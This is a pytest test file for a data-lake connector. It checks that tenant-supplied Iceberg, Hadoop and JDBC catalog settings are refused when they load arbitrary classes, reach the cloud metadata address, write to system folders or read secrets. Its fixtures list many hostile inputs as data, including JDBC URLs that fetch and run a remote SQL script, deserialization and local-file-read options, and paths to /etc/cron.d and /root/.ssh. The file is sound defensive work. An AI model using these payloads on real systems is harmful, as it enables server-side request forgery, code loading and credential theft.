"""What a tenant can hand to the clients of a lake: no class by its name, no file outside the open folders, no closed host."""

from __future__ import annotations

import re
import socket

import pytest
from cdcworker.connectors.api.sink import LedgerAccess
from cdcworker.connectors.config import allowed_hosts as hosts
from cdcworker.connectors.config.definition import Secret
from cdcworker.connectors.sink_engine.warehouse_kinds import kind_of
from cdcworker.connectors.spark.config import CONFIG_DEF
from cdcworker.connectors.spark.connector import SparkSink
from cdcworker.connectors.warehouses.kind import WriterTask
from cdcworker.connectors.warehouses.lake.catalog.catalog_properties import judged_properties
from cdcworker.connectors.warehouses.lake.kind import catalog_settings
from cdcworker.schemas.errors import CdcError
from cdcworker.worker.security import allowed_targets
from cdcworker.worker.validation.child import findings

CATALOGS = ("hadoop", "hive", "rest", "jdbc", "nessie")
URIS = {
    "hadoop": "",
    "hive": "thrift://127.0.0.1:9083",
    "rest": "https://127.0.0.1:8181/api/catalog",
    "jdbc": "jdbc:postgresql://127.0.0.1:5432/lake",
    "nessie": "http://127.0.0.1:19120/api/v2",
}
KEYS = ("warehouse.catalog.properties", "warehouse.catalog.secrets")
BASE = {"connector.class": "spark", "name": "shop-lake", "topics": "shop-a", "warehouse": "iceberg"}
REFUSED = ("config.catalog_property", "config.host_not_allowed", "file.path_not_allowed", "config.invalid")

CLASSES = (
    "io-impl=evil.FileIO", "IO-IMPL=evil.FileIO", "Io-Impl=evil.FileIO", "catalog-impl=evil.Catalog", "type=hive",
    "metrics-reporter-impl=evil.Reporter", "lock-impl=evil.Lock", "encryption.kms-impl=evil.Kms", "encryption.kms-type=aws",
    "client.factory=evil.Factory", "s3.client-factory-impl=evil.Factory", "client.credentials-provider=evil.Provider",
    "client.credentials-provider.x=y", "adls.token-credential-provider=evil.Provider", "rest.auth.type=evil.Manager",
    "rest.client.tls.configurer-impl=evil.Tls", "rest.auth.sigv4.delegate-auth-type=evil.Manager",
    "hadoop.fs.file.impl=evil.FileSystem", "hadoop.fs.s3a.impl=evil.FileSystem", "hadoop.fs.evil.impl=evil.FileSystem",
    "hadoop.fs.AbstractFileSystem.file.impl=evil.Fs", "hadoop.fs.s3a.aws.credentials.provider=evil.Provider",
    "hadoop.hadoop.security.group.mapping=evil.Mapping", "hadoop.io.compression.codecs=evil.Codec",
    "hadoop.fs.s3a.s3.client.factory.impl=evil.Factory", "hadoop.hive.metastore.client.class=evil.Client",
    "hadoop.hadoop.rpc.socket.factory.class.default=evil.Sockets", "client-builder-impl=evil.Builder",
    "nessie.client-builder-impl=evil.Builder", "authentication.type=evil.Provider", "http-client.type=evil.Client",
    "jdbc.socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "jdbc.sslfactory=evil.Factory", "jdbc.driver=evil.Driver", "jdbc.sslhostnameverifier=evil.Verifier",
    "jdbc.sslpasswordcallback=evil.Callback", "jdbc.authenticationPluginClassName=evil.Plugin",
    "jdbc.queryInterceptors=evil.Interceptor", "jdbc.autoDeserialize=true", "jdbc.statementInterceptors=evil.I",
    "table-default.write.location-provider.impl=evil.Provider", "table-override.write.location-provider.impl=evil.P",
    "view-override.x=y", "scan-planning-class=evil", "spark.jars=/tmp/x.jar",
)  # fmt: skip
FILES = (
    "table-override.write.data.path=/etc/cron.d", "table-default.write.data.path=/etc/cron.d",
    "table-override.write.metadata.path=/root/.ssh", "table-default.write.metadata.path=file:/root/.ssh",
    "table-override.write.object-storage.path=/etc", "table-override.write.folder-storage.path=/etc",
    "hadoop.fs.defaultFS=file:///", "hadoop.hadoop.tmp.dir=/etc", "hadoop.fs.s3a.buffer.dir=/etc",
    "hadoop.hadoop.security.credential.provider.path=jceks://file/etc/x", "warehouse=file:///etc", "warehouse=file:/etc",
    "warehouse=FILE:/etc", "warehouse=/srv/../etc", "warehouse=local:/etc", "s3.staging-dir=../etc", "s3.staging-dir=file:/etc",
    "jdbc.loggerFile=/root/.bashrc", "jdbc.allowLoadLocalInfile=true", "jdbc.sslkey=/etc/ssl/private/x",
    "jdbc.sslrootcert=../x", "jdbc.serverRSAPublicKeyFile=/etc/passwd", "hadoop.dfs.client.socketcache.path=/x",
)  # fmt: skip
HOSTS = (
    "uri=http://169.254.169.254/", "s3.endpoint=http://169.254.169.254/", "s3.endpoint=http://2852039166/",
    "s3.endpoint=http://u@169.254.169.254/", "s3.endpoint=http://ok\\@169.254.169.254/", "s3.endpoint=ftp://h/",
    "s3.endpoint=http://[::ffff:169.254.169.254]/", "s3.endpoint=jar:http://h/x!/", "s3.endpoint=file:///etc",
    "s3.endpoint=http://100.100.100.200", "gcs.service.host=http://0xa9fea9fe/", "gcs.service.host=http://0.0.0.0/",
    "oauth2-server-uri=http://169.254.169.254/token", "oauth2-server-uri=//169.254.169.254/token",
    "oauth2-server-uri=gopher://h/", "oauth2-server-uri=../../x", "s3.signer.uri=http://169.254.1.1/",
    "s3.signer.endpoint=http://[fe80::1]/", "rest.client.proxy.hostname=169.254.169.254",
    "rest.client.proxy.hostname=a/../b", "http-client.proxy-endpoint=http://169.254.169.254:80",
    "adls.connection-string.x=http://168.63.129.16/", "hadoop.fs.s3a.endpoint=169.254.169.254",
    "authentication.oauth2.token-endpoint=http://169.254.169.254/", "client.refresh-credentials-endpoint=http://h/",
    "client.region=us.evil.example/", "s3.region=evil.example#", "rest.signing-region=a.b", "dynamodb.endpoint=http://h/",
    "glue.endpoint=http://h/", "kms.endpoint=http://h/", "hadoop.hive.metastore.uris=thrift://h:1",
    "hadoop.fs.s3a.proxy.host=h", "hadoop.javax.jdo.option.ConnectionURL=jdbc:h2:mem:x", "azure.keyvault.url=http://h",
    "client.assume-role.arn=arn:aws:iam::1:role/x", "header.Host=metadata", "header.host=metadata", "nonsense=1", "=1", "novalue",
    "header.X-A=a\nX-B: b",
)  # fmt: skip
HOSTILE = (*CLASSES, *FILES, *HOSTS)

HOSTILE_URIS = {
    "hive": (
        "thrift://169.254.169.254:9083", "http://h:9083", "thrift://u@h:1", "thrift://h:1,thrift://169.254.1.1:1",
        "thrift://h:1/../x", "jdbc:h2:mem:x", "file:///etc", "h:9083", "thrift://[fe80::1]:9083", "thrift://h:1,jdbc:x",
    ),
    "rest": (
        "http://169.254.169.254/", "http://169.254.169.254:80/v1", "file:///etc/passwd", "jar:file:/x!/", "ftp://h/",
        "http://h\\@169.254.169.254/", "http://u:p@h/", "http://", "//h/", "h", "http://h /", "http://[fe80::1]/", "HTTP://h#@e/",
        "http://0/", "http://0x7f000001/", "http://127.1/", "http://h:99999999/", "ldap://h/",
    ),
    "jdbc": (
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://e/x.sql'", "jdbc:derby:/x;create=true", "jdbc:sqlite::resource:http://e/x",
        "jdbc:sqlite:/x?enable_load_extension=true", "jdbc:sqlite:x", "jdbc:sqlite:file:/etc/x", "jdbc:sqlite:/srv/../etc/x",
        "jdbc:postgresql://h/d?socketFactory=evil.F", "jdbc:postgresql://h/d?socketFactoryArg=http://e/x",
        "jdbc:postgresql://h/d?sslfactory=evil.F", "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/etc/x",
        "jdbc:postgresql://h/d?SOCKETFACTORY=evil.F", "jdbc:postgresql://h/d?user=a&socketFactory=evil.F",
        "jdbc:postgresql://h/d?sslpasswordcallback=evil.C", "jdbc:postgresql://h/d?service=x", "jdbc:postgresql:d",
        "jdbc:postgresql://169.254.169.254/d", "jdbc:postgresql://h,169.254.169.254:1/d", "jdbc:postgresql://h:1@e/d",
        "jdbc:postgresql://h/d?sslrootcert=../x", "jdbc:mysql://h/d?autoDeserialize=true",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true", "jdbc:mysql://(host=e,autoDeserialize=true)/d",
        "jdbc:mysql://address=(host=e)(allowLoadLocalInfile=true)/d", "jdbc:mysql://h/d?queryInterceptors=evil.I",
        "jdbc:mysql:loadbalance://h/d", "jdbc:mysql:aws://h/d", "jdbc:hive2://h/d", "jdbc:snowflake://h", "jdbc:oracle:thin:@h",
        "jdbc:sqlserver://h;socketFactoryClass=e", "jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap://e/x;",
        "http://h/", "jdbc:postgresql://h/d?%73ocketFactory=x", "jdbc:postgresql://h/d;socketFactory=x",
    ),
    "nessie": ("http://169.254.169.254/", "file:///x", "http://u@h/", "quarkus://h/", "h:19120"),
}  # fmt: skip
HOSTILE_PATHS = (
    "file:///etc", "file:/etc", "FILE:///etc", "local:///etc", "har://file-/etc/x", "jar:file:///x!/", "http://h/x", "https://h/x",
    "ftp://h/x", "sftp://h/x", "hdfs://169.254.169.254:8020/x", "webhdfs://169.254.169.254/x", "webhdfs://u@h/x", "s3a://k:s@b/x",
    "abfss://c@169.254.169.254/x", "hdfs://[fe80::1]:1/x", "s3a://b/../../x", "hdfs://h:8020/a/../../b", "evil://h/x", "data://x",
    "jdbc://x", "s3a://b/x?y", "s3a://b/x#y", "//h/x://", "/srv/x://y", "abfss://h/x", "hdfs://h:1,h:2/x",
)  # fmt: skip

ORDINARY = {
    "hadoop": (
        "cache.expiration-interval-ms=1000", "table-default.write.parquet.compression-codec=zstd",
        "lock.acquire-timeout-ms=1000", "io.manifest.cache-enabled=true", "hadoop.fs.s3a.endpoint=127.0.0.1:9000",
        "hadoop.fs.s3a.path.style.access=true", "hadoop.fs.s3a.access.key=k", "hadoop.fs.s3a.secret.key=s/+=",
        "hadoop.fs.azure.account.key.a.dfs.core.windows.net=x==", "s3.path-style-access=true",
    ),
    "hive": ("clients=4", "warehouse=s3a://bucket/lake", "list-all-tables=true", "hadoop.hive.metastore.sasl.enabled=true",
             "hadoop.hive.metastore.kerberos.principal=hive/_HOST@EXAMPLE.COM", "warehouse=/srv/lake"),
    "rest": (
        "credential=id:secret", "token=eyJ.x.y", "scope=PRINCIPAL_ROLE:ALL", "oauth2-server-uri=v1/oauth/tokens",
        "oauth2-server-uri=http://127.0.0.1:8080/realms/x/protocol/openid-connect/token", "warehouse=main", "prefix=main",
        "warehouse=s3://bucket/path", "warehouse=arn:aws:s3tables:eu-west-1:1:bucket/x", "audience=a", "resource=r",
        "s3.endpoint=http://127.0.0.1:9000", "s3.region=eu-west-1", "client.region=eu-west-1", "s3.path-style-access=true",
        "s3.access-key-id=AKIA", "s3.secret-access-key=a/b+c=", "s3.session-token=x", "s3.remote-signing-enabled=true",
        "s3.signer.uri=http://127.0.0.1:1/", "s3.signer.endpoint=v1/aws/s3/sign", "rest.sigv4-enabled=true",
        "rest.signing-name=glue", "rest.signing-region=eu-west-1", "rest.auth.type=oauth2", "rest.auth.basic.username=u",
        "rest.auth.basic.password=p", "header.X-Iceberg-Access-Delegation=vended-credentials", "header.Authorization=Bearer x y",
        "token-refresh-enabled=false", "token-exchange-enabled=false", "rest.client.proxy.hostname=127.0.0.1",
        "rest.client.proxy.port=3128", "rest.client.connection-timeout-ms=1000", "snapshot-loading-mode=refs",
        "rest-metrics-reporting-enabled=false", "default-namespace=shop", "gcs.project-id=p", "gcs.oauth2.token=t",
        "adls.sas-token.a.dfs.core.windows.net=sv=1&sig=x%3D", "adls.auth.shared-key.account.name=a", "client.region=us-east-1",
        "urn:ietf:params:oauth:token-type:jwt=x", "s3.sse.type=kms", "s3.sse.key=arn:aws:kms:x", "s3.write.tags.team=shop",
    ),
    "jdbc": ("jdbc.user=u", "jdbc.password=p", "jdbc.schema-version=V1", "jdbc.sslmode=verify-full", "warehouse=s3a://b/lake",
             "jdbc.useSSL=true", "jdbc.verifyServerCertificate=true", "jdbc.sslrootcert=/etc/tls/ca.crt"),
    "nessie": ("ref=main", "authentication.type=BEARER", "authentication.token=t", "warehouse=s3a://b/lake", "client-api-version=2",
               "authentication.oauth2.issuer-url=http://127.0.0.1:1/realms/x", "authentication.oauth2.client-secret=s"),
}  # fmt: skip
ORDINARY_URIS = {
    "hive": ("thrift://127.0.0.1:9083",),
    "rest": ("http://127.0.0.1:8181", "https://127.0.0.1/api/catalog", "http://[::1]:8181/iceberg/"),
    "jdbc": ("jdbc:postgresql://127.0.0.1:5432/lake?sslmode=require&ApplicationName=cdc", "jdbc:mysql://127.0.0.1/lake?useSSL=true",
             "jdbc:mariadb://127.0.0.1:3306/lake", "jdbc:sqlite:/srv/lake/catalog.db", "jdbc:postgresql://127.0.0.1,127.0.0.2:1/d"),
    "nessie": ("http://127.0.0.1:19120/api/v2",),
}  # fmt: skip


@pytest.fixture(autouse=True)
def policy():
    """The rules of the operator in this process, put back afterwards."""
    before = hosts._policy
    yield
    allowed_targets.admit({}, {})
    hosts.use(before)


def config_of(catalog, **more):
    named = {name.replace("_", "."): value for name, value in more.items()}
    return {
        **BASE,
        "warehouse.path": "/srv/lake",
        "warehouse.catalog": catalog,
        "warehouse.catalog.uri": URIS[catalog],
        **named,
    }


def with_property(catalog, key, item):
    return {**config_of(catalog), key: item}


def is_refused(act, *args):
    """Whether CdcError says so with one of the codes, at a key of the warehouse."""
    try:
        act(*args)
    except CdcError as exc:
        return exc.code in REFUSED and exc.where["key"].startswith("warehouse.")
    return False


def stored(catalog, key, items):
    """A parsed config as a build without these rules would have stored it."""
    parsed = dict(CONFIG_DEF.parse(config_of(catalog)))
    parsed[key] = Secret(",".join(items)) if key.endswith("secrets") else list(items)
    return parsed


def used(parsed):
    return kind_of(parsed).open(parsed, WriterTask("shop-lake", file_roots=["/"]))


def test_the_corpus_is_large_enough():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("catalog", CATALOGS)
def test_a_hostile_property_is_refused_at_submission_and_at_use(catalog, key):
    accepted = [item for item in HOSTILE if not is_refused(CONFIG_DEF.parse, with_property(catalog, key, item))]
    assert accepted == []
    begun = [item for item in HOSTILE if not is_refused(used, stored(catalog, key, [item]))]
    assert begun == []


@pytest.mark.parametrize("catalog", CATALOGS)
def test_an_open_root_opens_no_property(catalog):
    """The hole as a tenant finds it: a lake in an open folder, whose tables lie elsewhere."""
    item = "table-override.write.data.path=/etc/cron.d"
    config = with_property(catalog, KEYS[0], item)
    found = list(findings({**config, "name": "shop-lake"}, {"file.connector.paths": "/"}))
    assert [(one.severity, one.key) for one in found] == [("error", KEYS[0])]


@pytest.mark.parametrize("catalog", sorted(HOSTILE_URIS))
def test_a_hostile_address_of_a_catalog_is_refused(catalog):
    for uri in HOSTILE_URIS[catalog]:
        assert is_refused(CONFIG_DEF.parse, config_of(catalog, warehouse_catalog_uri=uri)), uri
        parsed = {**CONFIG_DEF.parse(config_of(catalog)), "warehouse.catalog.uri": uri}
        assert is_refused(used, parsed), uri


@pytest.mark.parametrize("warehouse", ["iceberg", "delta"])
def test_a_hostile_place_of_files_is_refused(warehouse):
    for path in HOSTILE_PATHS:
        config = {**BASE, "warehouse": warehouse, "warehouse.path": "/srv/lake"}
        parsed = {**CONFIG_DEF.parse(config), "warehouse.path": path}
        assert is_refused(used, parsed), path
    for path in (
        "file:///etc",
        "har://file-/x",
        "http://h/x",
        "evil://h/x",
        "s3a://k:s@b/x",
        "hdfs://169.254.169.254:1/x",
    ):
        assert is_refused(CONFIG_DEF.parse, {**config, "warehouse.path": path}), path


@pytest.mark.parametrize("catalog", CATALOGS)
def test_ordinary_properties_reach_iceberg_as_they_are(catalog):
    for key in KEYS:
        for item in ORDINARY[catalog]:
            config = with_property(catalog, key, item)
            name, _, value = item.partition("=")
            expected = "/srv/lake" if name == "warehouse" else value
            assert catalog_settings(CONFIG_DEF.parse(config), ["/"])[name] == expected, item
            assert used(CONFIG_DEF.parse(config)) is not None
    for uri in ORDINARY_URIS.get(catalog, ()):
        found = catalog_settings(CONFIG_DEF.parse(config_of(catalog, warehouse_catalog_uri=uri)), ["/"])
        assert found["uri"] == uri


@pytest.mark.parametrize(
    "path", ["s3a://bucket/lake", "hdfs://nameservice/lake", "hdfs:///lake", "gs://b", "abfss://c@127.0.0.1/x"]
)
@pytest.mark.parametrize("warehouse", ["iceberg", "delta"])
def test_ordinary_stores_are_open_where_the_worker_opens_everything(warehouse, path):
    config = CONFIG_DEF.parse({**BASE, "warehouse": warehouse, "warehouse.path": path})
    assert used(config) is not None
    with pytest.raises(CdcError) as caught:
        kind_of(config).open(config, WriterTask("s", file_roots=["/srv"]))
    assert caught.value.code == "file.path_not_allowed"


PLACES = {
    "rest": ("s3.endpoint=http://{}:9000", "oauth2-server-uri=https://{}/t", "rest.client.proxy.hostname={}",
             "adls.connection-string.a={}", "http-client.proxy-endpoint=http://{}:1", "warehouse=webhdfs://{}/x"),
    "nessie": ("authentication.oauth2.token-endpoint=https://{}/t", "warehouse=abfss://c@{}/x", "gcs.service.host=http://{}"),
    "hive": ("hadoop.fs.s3a.endpoint={}:9000", "warehouse=hdfs://{}:8020/x"),
    "jdbc": ("warehouse=hdfs://{}/x",),
    "hadoop": ("hadoop.fs.s3a.endpoint=http://{}",),
}  # fmt: skip


@pytest.mark.parametrize("catalog", CATALOGS)
def test_a_host_in_any_value_is_judged_by_where_its_name_leads(catalog, monkeypatch):
    """A name passes every form; the address to which it leads does not."""
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_a, **_k: [(2, 1, 6, "", ("169.254.169.254", 0))])
    for item in PLACES[catalog]:
        assert is_refused(used, stored(catalog, KEYS[0], [item.format("lake.example")])), item
    for uri in ORDINARY_URIS.get(catalog, ()):
        if "127.0.0.1" in uri:
            parsed = {
                **CONFIG_DEF.parse(config_of(catalog)),
                "warehouse.catalog.uri": uri.replace("127.0.0.1", "lake.example"),
            }
            assert is_refused(used, parsed), uri


@pytest.mark.parametrize("catalog", CATALOGS)
def test_hosts_obey_the_list_of_the_operator(catalog, monkeypatch):
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_a, **_k: [(2, 1, 6, "", ("10.9.9.9", 0))])
    hosts.use(hosts.HostPolicy(hosts.parse_allowed(["127.0.0.0/8", "good.example"]), True))
    for item in PLACES[catalog]:
        assert is_refused(used, stored(catalog, KEYS[0], [item.format("evil.example")])), item
        assert used(stored(catalog, KEYS[0], [item.format("good.example")])) is not None
    hosts.use(hosts.HostPolicy((), loopback=False))
    if URIS[catalog]:
        assert is_refused(used, CONFIG_DEF.parse(config_of(catalog)))


def test_a_submission_is_refused_with_the_code_the_place_and_what_to_do():
    rules = {"file.connector.paths": "/", "connector.hosts.allowed": "10.0.0.0/8", "connector.hosts.loopback": "false"}
    config = {
        **config_of("rest"),
        "warehouse.catalog.uri": "http://10.1.1.1/",
        KEYS[0]: "s3.endpoint=http://192.0.2.1:9000",
    }
    [found] = findings(config, rules)
    assert (found.code, found.key) == ("config.host_not_allowed", KEYS[0])
    assert found.hint
    with pytest.raises(CdcError) as caught:
        used(stored("rest", KEYS[0], ["io-impl=evil.FileIO"]))
    assert caught.value.code == "config.catalog_property"
    assert "io-impl" in caught.value.message
    assert caught.value.hint


def test_a_request_beside_the_task_judges_a_stored_config_too():
    """Offsets, dead letters and comparisons open the lake without a task."""
    config = with_property("rest", KEYS[0], "io-impl=evil.FileIO")
    sink = SparkSink(config)
    place = LedgerAccess("shop-lake", file_roots=("/",))
    for act in (
        sink.offsets,
        lambda p: sink.alter_offsets(p, None),
        lambda p: sink.trace(p, {}),
        lambda p: sink.verify_side(p),
    ):
        assert is_refused(act, place)


@pytest.mark.parametrize("catalog", ["rest"])
def test_a_reference_is_judged_when_it_is_resolved(catalog):
    kept = "s3.endpoint=${env:CDC_SECRET_ENDPOINT},token=${file:/run/secrets/lake:token}"
    parsed = CONFIG_DEF.parse(with_property(catalog, KEYS[0], kept))
    assert is_refused(used, parsed), "an address that is still a reference is no address"
    assert CONFIG_DEF.parse(with_property(catalog, KEYS[1], "${file:/run/secrets/lake}"))
    assert is_refused(CONFIG_DEF.parse, with_property(catalog, KEYS[0], "io-impl=${env:CDC_SECRET_CLASS}"))


@pytest.mark.parametrize("text", ["token=abc,canary=x", "canary", "s3.endpoint=canary", "canary.name=1"])
def test_an_error_tells_nothing_of_a_secret(text):
    for act, config in (
        (CONFIG_DEF.parse, with_property("rest", KEYS[1], text)),
        (used, stored("rest", KEYS[1], [text])),
    ):
        with pytest.raises(CdcError) as caught:
            act(config)
        assert "canary" not in f"{caught.value} {caught.value.where}"


def test_no_listed_property_names_a_class():
    """Of every name that ends so Iceberg, Hadoop or a driver loads what its value says."""
    from cdcworker.connectors.warehouses.lake.catalog.catalog_properties import families, listed

    loading = re.compile(
        r"impl|class|factory|provider|reporter|codecs|interceptor|callback|driver|\.path$|defaultFS", re.I
    )
    for catalog in CATALOGS:
        names = {*listed(catalog), *(pattern for pattern, _ in families(catalog))} - {"s3.write.storage-class"}
        assert [name for name in names if loading.search(name)] == []


@pytest.mark.parametrize("catalog", CATALOGS)
def test_no_value_reads_the_environment_of_java(catalog):
    """Iceberg and Hadoop put variables, and settings of Java's process, in the place of such values."""
    item = {"rest": "header.X-A", "jdbc": "jdbc.password", "nessie": "authentication.token"}.get(
        catalog, "s3.access-key-id"
    )
    for key in KEYS:
        assert is_refused(CONFIG_DEF.parse, with_property(catalog, key, f"{item}=env:AWS_SECRET_ACCESS_KEY"))
        assert is_refused(used, stored(catalog, key, [f"{item}=env:AWS_SECRET_ACCESS_KEY"]))
        assert used(CONFIG_DEF.parse(with_property(catalog, key, f"{item}=an env:x"))) is not None
        for value in ("${env.AWS_SECRET_ACCESS_KEY}", "a${user.name}", "${env.A:-b}"):
            assert is_refused(CONFIG_DEF.parse, with_property(catalog, key, f"hadoop.fs.s3a.access.key={value}"))
            assert is_refused(used, stored(catalog, key, [f"hadoop.fs.s3a.access.key={value}"]))


# -- TLS ------------------------------------------------------------------------------------------------------------

FAR = {
    "hive": "thrift://192.0.2.1:9083",
    "rest": "https://192.0.2.1/api",
    "jdbc": "jdbc:postgresql://192.0.2.1/lake",
    "nessie": "https://192.0.2.1/api",
}
PASSWORD = "jdbc.password=p"
WEAK = (
    ("encrypted", "rest", "http://192.0.2.1/api", "token=t"),
    ("encrypted", "rest", FAR["rest"], "s3.endpoint=http://192.0.2.1"),
    ("encrypted", "rest", FAR["rest"], "oauth2-server-uri=http://192.0.2.1/t"),
    ("encrypted", "rest", FAR["rest"], "hadoop.fs.s3a.endpoint=192.0.2.1,hadoop.fs.s3a.connection.ssl.enabled=false"),
    ("encrypted", "rest", FAR["rest"], "hadoop.fs.s3a.endpoint=http://192.0.2.1"),
    ("encrypted", "nessie", "http://192.0.2.1/api", ""),
    ("encrypted", "nessie", FAR["nessie"], "authentication.oauth2.token-endpoint=http://192.0.2.1/t"),
    ("encrypted", "hive", FAR["hive"], ""),
    ("verified", "hive", FAR["hive"], "hadoop.hive.metastore.use.SSL=true"),
    ("encrypted", "hive", "thrift://127.0.0.1:9083,thrift://192.0.2.1:9083", ""),
    ("encrypted", "hive", FAR["hive"], "warehouse=webhdfs://192.0.2.1/x,hadoop.hive.metastore.use.SSL=true"),
    *(("encrypted", "jdbc", f"{FAR['jdbc']}{mode}", "") for mode in ("", "?sslmode=disable", "?sslmode=prefer", "?ssl=false")),
    ("encrypted", "jdbc", f"{FAR['jdbc']}?sslmode=prefer", "jdbc.sslmode=verify-full"),
    *(("verified", "jdbc", f"{FAR['jdbc']}?sslmode={mode}", "") for mode in ("require", "verify-ca")),
    ("encrypted", "jdbc", "jdbc:mysql://192.0.2.1/lake?useSSL=true", ""),
    ("verified", "jdbc", "jdbc:mysql://192.0.2.1/lake?sslMode=VERIFY_CA", ""),
    ("verified", "jdbc", "jdbc:mariadb://192.0.2.1/lake?sslMode=trust", ""),
    ("encrypted", "jdbc", "jdbc:mariadb://192.0.2.1/lake?sslMode=other", ""),
    *(("any", "jdbc", f"{FAR['jdbc']}{mode}", PASSWORD) for mode in ("", "?sslmode=disable", "?sslmode=prefer", "?sslmode=require")),
    ("any", "jdbc", f"{FAR['jdbc']}?password=p", ""),
    ("any", "jdbc", "jdbc:mysql://192.0.2.1/lake?sslMode=REQUIRED", PASSWORD),
    ("any", "jdbc", "jdbc:postgresql://127.0.0.1,192.0.2.1/lake", PASSWORD),
)  # fmt: skip
STRONG = (
    ("any", "rest", "http://192.0.2.1/api", "token=t"),
    ("any", "hive", FAR["hive"], ""),
    ("any", "jdbc", f"{FAR['jdbc']}?sslmode=disable", ""),
    ("any", "jdbc", f"{FAR['jdbc']}?sslmode=verify-ca", PASSWORD),
    ("any", "jdbc", "jdbc:mysql://192.0.2.1/lake?useSSL=true&requireSSL=true&verifyServerCertificate=true", PASSWORD),
    ("any", "jdbc", "jdbc:mysql://127.0.0.1/lake", PASSWORD),
    ("verified", "jdbc", "jdbc:postgresql://127.0.0.1/lake", PASSWORD),
    ("verified", "jdbc", f"{FAR['jdbc']}?sslmode=verify-full", PASSWORD),
    ("verified", "jdbc", f"{FAR['jdbc']}?ssl=true", PASSWORD),
    ("verified", "jdbc", FAR["jdbc"], f"jdbc.sslmode=verify-full,{PASSWORD}"),
    ("verified", "jdbc", "jdbc:mysql://192.0.2.1/lake?sslMode=VERIFY_IDENTITY", PASSWORD),
    ("verified", "jdbc", "jdbc:sqlite:/srv/lake.db", ""),
    ("encrypted", "jdbc", f"{FAR['jdbc']}?sslmode=require", ""),
    ("encrypted", "hive", FAR["hive"], "hadoop.hive.metastore.use.SSL=true"),
    ("verified", "hive", URIS["hive"], ""),
    ("verified", "rest", FAR["rest"], "token=t,s3.endpoint=https://192.0.2.1,http-client.proxy-endpoint=http://192.0.2.1"),
    ("verified", "rest", FAR["rest"], "hadoop.fs.s3a.endpoint=192.0.2.1"),
    ("verified", "nessie", URIS["nessie"], ""),
)  # fmt: skip


def judged(rule, catalog, uri, secrets, **rules):
    """The error of a submission and that of its use, which is the same."""
    config = {**config_of(catalog), "warehouse.catalog.uri": uri, "warehouse.catalog.secrets": secrets}
    operator = {allowed_targets.TLS: rule, "file.connector.paths": "/", **rules}
    found = [
        one.code for one in findings(config, operator) if one.severity == "error" and one.code.startswith("config.")
    ]
    allowed_targets.admit(config, operator)
    return found, code_of(catalog_settings, CONFIG_DEF.parse(config), ["/"])


def code_of(act, *args):
    """The code of the error; None without one."""
    try:
        act(*args)
    except CdcError as error:
        return error.code
    return None


@pytest.mark.parametrize(("rule", "catalog", "uri", "secrets"), WEAK)
def test_a_lake_obeys_what_the_operator_asks_of_tls(rule, catalog, uri, secrets):
    assert judged(rule, catalog, uri, secrets) == (["config.tls_not_enough"], "config.tls_not_enough")


@pytest.mark.parametrize(("rule", "catalog", "uri", "secrets"), STRONG)
def test_a_lake_with_enough_tls_is_taken(rule, catalog, uri, secrets):
    assert judged(rule, catalog, uri, secrets) == ([], None)


def test_the_operator_may_let_databases_have_passwords():
    where_open = judged("any", "jdbc", FAR["jdbc"], PASSWORD, **{allowed_targets.WEAKEST_AUTH: "password"})
    assert where_open == ([], None)


@pytest.mark.parametrize("warehouse", ["iceberg", "delta"])
def test_a_store_obeys_what_the_operator_asks_of_tls(warehouse):
    allowed_targets.admit({}, {allowed_targets.TLS: "encrypted"})
    for scheme, code in (("webhdfs", "config.tls_not_enough"), ("swebhdfs", None)):
        config = CONFIG_DEF.parse({**BASE, "warehouse": warehouse, "warehouse.path": f"{scheme}://192.0.2.1/lake"})
        assert code_of(kind_of(config).check_paths, config, ["/"]) == code


def test_what_a_catalogs_server_sends_obeys_it_too():
    allowed_targets.admit({}, {allowed_targets.TLS: "encrypted"})
    assert judged_properties({"s3.endpoint": "https://192.0.2.1"}, ["/"])[0]
    with pytest.raises(CdcError, match="http instead of https"):
        judged_properties({"s3.endpoint": "http://192.0.2.1"}, ["/"])
